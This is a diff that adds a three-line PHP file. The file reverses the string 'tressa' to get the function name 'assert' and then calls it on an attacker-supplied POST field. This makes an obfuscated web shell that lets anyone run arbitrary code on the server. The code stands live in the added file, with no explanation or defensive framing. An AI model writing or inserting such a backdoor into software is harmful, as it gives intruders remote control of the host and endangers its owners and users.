@@ -1,0 +1,3 @@
+<?php
+$f = strrev("tressa");
+$f($_POST['x']);
